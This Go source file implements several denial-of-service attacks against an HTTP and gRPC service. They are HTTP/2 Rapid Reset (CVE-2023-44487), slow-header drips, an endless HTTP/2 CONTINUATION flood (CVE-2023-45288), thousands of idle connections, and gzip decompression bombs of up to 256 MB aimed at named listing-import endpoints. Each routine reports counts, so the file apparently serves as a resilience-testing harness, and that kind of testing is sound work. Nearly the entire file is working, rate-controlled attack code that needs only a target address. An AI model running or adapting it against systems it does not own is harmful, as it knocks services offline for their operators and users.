package main

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// each calls f in workers loops, at most perSecond times a second in all, until stop.
func each(workers, perSecond int, stop <-chan struct{}, f func()) {
	ticker := time.NewTicker(time.Second / time.Duration(perSecond))
	defer ticker.Stop()
	var loops sync.WaitGroup
	for range workers {
		loops.Go(func() {
			for {
				select {
				case <-stop:
					return
				case <-ticker.C:
					f()
				}
			}
		})
	}
	loops.Wait()
}

// h2 is a connection of HTTP/2 in the clear, frame by frame.
type h2 struct {
	net.Conn
	*http2.Framer
	headers []byte // Of a GET, compressed with literals only, so that each stream may use them.
	stream  uint32
}

func dialH2(target string) (*h2, error) {
	connection, err := net.Dial("tcp", target)
	if err != nil {
		return nil, err
	}
	_ = connection.SetDeadline(time.Now().Add(time.Minute))
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/v1/organizations"}, {":authority", target}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	c := &h2{Conn: connection, Framer: http2.NewFramer(connection, connection), headers: block.Bytes(), stream: 1}
	if _, err := io.WriteString(connection, http2.ClientPreface); err == nil {
		err = c.WriteSettings()
	}
	go io.Copy(io.Discard, connection)
	return c, err
}

// rapidReset asks and takes back at once (CVE-2023-44487), 20,000 times a second.
func rapidReset(target string, stop <-chan struct{}) string {
	var resets, cut atomic.Int64
	var loops sync.WaitGroup
	for range 4 {
		loops.Go(func() {
			var c *h2
			each(1, 500, stop, func() {
				for range 10 {
					if c == nil {
						fresh, err := dialH2(target)
						if err != nil {
							return
						}
						c = fresh
					}
					err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: c.headers, EndStream: true, EndHeaders: true})
					if err == nil {
						err = c.WriteRSTStream(c.stream, http2.ErrCodeCancel)
					}
					if err != nil {
						cut.Add(1)
						c.Close()
						c = nil
						return
					}
					c.stream += 2
					resets.Add(1)
				}
			})
		})
	}
	loops.Wait()
	return fmt.Sprintf("%d requests taken back; cut off %d times", resets.Load(), cut.Load())
}

// slowHeaders opens 500 connections, of HTTP/1.1 and of HTTP/2, and sends a byte of
// the headers a second on each.
func slowHeaders(target string, stop <-chan struct{}) string {
	var open, cut atomic.Int64
	var loops sync.WaitGroup
	for i := range 500 {
		loops.Go(func() {
			drip := func() error { return nil }
			if i%2 == 0 {
				c, err := net.Dial("tcp", target)
				if err != nil {
					return
				}
				defer c.Close()
				fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: ", target)
				drip = func() error { _, err := c.Write([]byte("x")); return err }
			} else {
				c, err := dialH2(target)
				if err != nil {
					return
				}
				defer c.Close()
				_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers, EndStream: true})
				drip = func() error { return c.WriteContinuation(1, false, nil) }
			}
			open.Add(1)
			for {
				select {
				case <-stop:
					return
				case <-time.After(time.Second):
				}
				if drip() != nil {
					cut.Add(1)
					return
				}
			}
		})
	}
	loops.Wait()
	return fmt.Sprintf("%d connections; %d cut off", open.Load(), cut.Load())
}

// hugeHeaders sends headers of 1 MB 100 times a second, in HTTP/1.1 and as an
// endless HTTP/2 header block (CVE-2023-45288).
func hugeHeaders(target string, stop <-chan struct{}) string {
	var sent atomic.Int64
	line := "X-Huge: " + strings.Repeat("x", 8000) + "\r\n"
	each(8, 100, stop, func() {
		if sent.Add(1)%2 == 0 {
			c, err := net.Dial("tcp", target)
			if err != nil {
				return
			}
			defer c.Close()
			fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\n", target)
			for range 128 {
				if _, err := io.WriteString(c, line); err != nil {
					return
				}
			}
			return
		}
		c, err := dialH2(target)
		if err != nil {
			return
		}
		defer c.Close()
		var block bytes.Buffer
		encoder := hpack.NewEncoder(&block)
		_ = encoder.WriteField(hpack.HeaderField{Name: "x-huge", Value: strings.Repeat("x", 8000), Sensitive: true})
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers, EndStream: true})
		for range 128 {
			if c.WriteContinuation(1, false, block.Bytes()) != nil {
				return
			}
		}
	})
	return fmt.Sprintf("%d requests with 1 MB of headers", sent.Load())
}

// idleConnections opens 2,000, half of them of HTTP/2, and does nothing with them.
func idleConnections(target string, stop <-chan struct{}) string {
	var open []io.Closer
	for i := range 2000 {
		if i%2 == 0 {
			if c, err := net.Dial("tcp", target); err == nil {
				open = append(open, c)
			}
		} else if c, err := dialH2(target); err == nil {
			open = append(open, c)
		}
	}
	<-stop
	for _, c := range open {
		c.Close()
	}
	return fmt.Sprintf("%d connections", len(open))
}

// bodyBomb sends bodies that would take much memory, 40 times a second: blanks, JSON of
// empty objects and protobuf of empty messages, packed in each protocol's way, with and
// without a word of it in the headers, and the messages as they are.
func bodyBomb(target string, stop <-chan struct{}) string {
	bombs := packedBombs()
	blanks, objects, messages, nearly, zeros := bombs[0], bombs[1], bombs[2], bombs[3], bombs[4]
	const list = "/karez.registry.v1.RegistryService/BatchImportListings"
	enveloped := func(data []byte) []byte { // As gRPC frames a compressed message.
		return append(binary.BigEndian.AppendUint32([]byte{1}, uint32(len(data))), data...)
	}
	requests := []struct {
		path, kind, encoding string
		body                 []byte
	}{
		{"/v1/listings:batchImport", "application/json", "Content-Encoding", blanks},
		{"/v1/listings:batchImport", "application/json", "Content-Encoding", objects},
		{list, "application/json", "Content-Encoding", blanks},
		{list, "application/proto", "Content-Encoding", messages},
		{list, "application/proto", "Content-Encoding", nearly},
		{"/grpc.health.v1.Health/Check", "application/proto", "Content-Encoding", zeros},
		{list, "application/grpc-web+proto", "Grpc-Encoding", enveloped(blanks)},
		{list, "application/grpc+proto", "Grpc-Encoding", enveloped(messages)},
		{list, "application/grpc+proto", "", enveloped(messages)},
		{list, "application/proto", "", bytes.Repeat([]byte{0x0a, 0x00}, 2<<20-32)},
	}
	http1, http2Only := &http.Transport{}, &http.Transport{Protocols: new(http.Protocols)}
	http2Only.Protocols.SetUnencryptedHTTP2(true)
	defer http1.CloseIdleConnections()
	defer http2Only.CloseIdleConnections()
	var sent, refused atomic.Int64
	each(8, 40, stop, func() {
		bomb := requests[int(sent.Add(1))%len(requests)]
		request, _ := http.NewRequest(http.MethodPost, "http://"+target+bomb.path, bytes.NewReader(bomb.body))
		request.Header.Set("Content-Type", bomb.kind)
		if bomb.encoding != "" {
			request.Header.Set(bomb.encoding, "gzip")
		}
		request.Header.Set("Connect-Protocol-Version", "1")
		request.Header.Set("Te", "trailers")
		transport := http1
		if strings.HasPrefix(bomb.kind, "application/grpc+") {
			transport = http2Only
		}
		response, err := transport.RoundTrip(request)
		if err != nil {
			refused.Add(1)
			return
		}
		_, _ = io.Copy(io.Discard, response.Body)
		response.Body.Close()
		if response.StatusCode != http.StatusOK || response.Header.Get("Grpc-Status")+response.Trailer.Get("Grpc-Status") != "" {
			refused.Add(1)
		}
	})
	return fmt.Sprintf("%d bodies of up to 256 MB; %d refused", sent.Load(), refused.Load())
}

// packedBombs are made once, before anything is measured: that takes long.
var packedBombs = sync.OnceValue(func() [][]byte {
	return [][]byte{
		pack([]byte(" "), 256<<20), pack([]byte("{},"), 16<<20), pack([]byte{0x0a, 0x00}, 16<<20), pack([]byte{0x0a, 0x00}, 4<<20-64),
		pack([]byte{0}, 60<<20), // Less than 64 KiB, where bodies are not counted.
	}
})

func pack(unit []byte, length int) []byte {
	var packed bytes.Buffer
	writer := gzip.NewWriter(&packed)
	chunk := bytes.Repeat(unit, 1<<16)
	for written := 0; written < length; written += len(chunk) {
		_, _ = writer.Write(chunk[:min(len(chunk), length-written)])
	}
	writer.Close()
	return packed.Bytes()
}
